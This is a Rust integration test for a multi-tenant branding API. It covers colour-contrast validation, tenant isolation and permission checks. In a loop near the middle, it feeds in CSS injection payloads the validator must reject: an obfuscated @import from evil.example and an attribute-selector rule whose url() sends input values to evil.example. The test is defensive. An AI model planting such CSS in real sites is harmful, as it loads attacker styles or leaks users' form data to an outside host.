//! Branding over HTTP: a colour that would make text unreadable is refused with its
//! contrast, an accepted one reaches the public branding and stylesheet of its provider
//! only, and only staff with the branding permission change it.

use crate::common::{ALL, Auth, STAFF_PASSWORD, World};
use axum::http::StatusCode;
use selfcare::domain::identity::Permission;
use serde_json::json;

#[tokio::test]
async fn a_providers_brand_reaches_its_own_sites_only_and_stays_readable() {
    let w = World::new().await;
    let acme = w.tenant("acme").await;
    let bluewave = w.tenant("bluewave").await;
    w.staff(&acme, "boss", ALL).await;
    w.staff(&acme, "clerk", &[Permission::AccountsRead]).await;
    w.staff(&bluewave, "rival", ALL).await;
    let boss = w.token("acme", "boss", STAFF_PASSWORD).await;
    let put = |token: String, tenant: &'static str, body: serde_json::Value| {
        let w = &w;
        async move {
            w.call(
                "PUT",
                "/v1/console/branding",
                tenant,
                Auth::Bearer(&token),
                Some(body),
            )
            .await
        }
    };

    let yellow = put(boss.clone(), "acme", json!({"brand_colour": "#FFCC00"})).await;
    assert_eq!(yellow.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        yellow.body["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("1.51:1"),
        "{}",
        yellow.text
    );
    // The stylesheet is read by a CSS parser: an escaped or commented @import, or a url()
    // to another origin, is refused with the field and the line.
    for css in [
        "@\\69mport 'https://evil.example/x.css';",
        "@/**/import 'x.css';",
        "input[value^=a] {\n  background: url(https://evil.example/?a);\n}",
    ] {
        let refused = put(boss.clone(), "acme", json!({ "css": css })).await;
        assert_eq!(
            refused.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{css}: {}",
            refused.text
        );
        assert_eq!(
            refused.body["errors"][0]["field"], "/css",
            "{}",
            refused.text
        );
    }
    let refused = put(
        boss.clone(),
        "acme",
        json!({ "css": "input[value^=a] {\n  background: url(https://evil.example/?a);\n}" }),
    )
    .await;
    assert!(
        refused.body["errors"][0]["message"]
            .as_str()
            .unwrap()
            .ends_with("(line 2)"),
        "{}",
        refused.text
    );
    let purple = put(
        boss.clone(),
        "acme",
        json!({"brand_colour": "#5B2A86", "css": ".sc-brand-name { letter-spacing: 0.05em; }"}),
    )
    .await;
    assert_eq!(purple.status, StatusCode::OK, "{}", purple.text);

    let public = w
        .call("GET", "/v1/branding", "acme", Auth::None, None)
        .await;
    assert_eq!(public.body["brand_colour"], "#5b2a86");
    assert_eq!(public.body["on_brand_colour"], "#ffffff");
    assert_eq!(public.body["provider"], "acme Telecom");
    let css = w
        .call("GET", "/v1/branding.css", "acme", Auth::None, None)
        .await;
    assert_eq!(css.headers["content-type"], "text/css; charset=utf-8");
    assert!(
        css.text
            .starts_with(":root { --sc-brand: #5b2a86; --sc-on-brand: #ffffff; }")
    );
    assert!(css.text.contains("letter-spacing"));

    // Another provider's look is its own; its staff cannot reach acme's.
    let theirs = w
        .call("GET", "/v1/branding", "bluewave", Auth::None, None)
        .await;
    assert!(theirs.body["brand_colour"].is_null());
    let rival = w.token("bluewave", "rival", STAFF_PASSWORD).await;
    put(
        rival.clone(),
        "bluewave",
        json!({"brand_colour": "#003300"}),
    )
    .await;
    let ours = w
        .call("GET", "/v1/branding", "acme", Auth::None, None)
        .await;
    assert_eq!(ours.body["brand_colour"], "#5b2a86");
    let read = w
        .call(
            "GET",
            "/v1/console/branding",
            "bluewave",
            Auth::Bearer(&rival),
            None,
        )
        .await;
    assert_eq!(read.body["brand_colour"], "#003300");

    // Staff without the permission may not change it.
    let clerk = w.token("acme", "clerk", STAFF_PASSWORD).await;
    let refused = put(clerk, "acme", json!({"brand_colour": "#000000"})).await;
    assert_eq!(refused.status, StatusCode::FORBIDDEN);
    let unknown = w
        .call("GET", "/v1/branding", "nobody", Auth::None, None)
        .await;
    assert_eq!(unknown.status, StatusCode::NOT_FOUND);
}
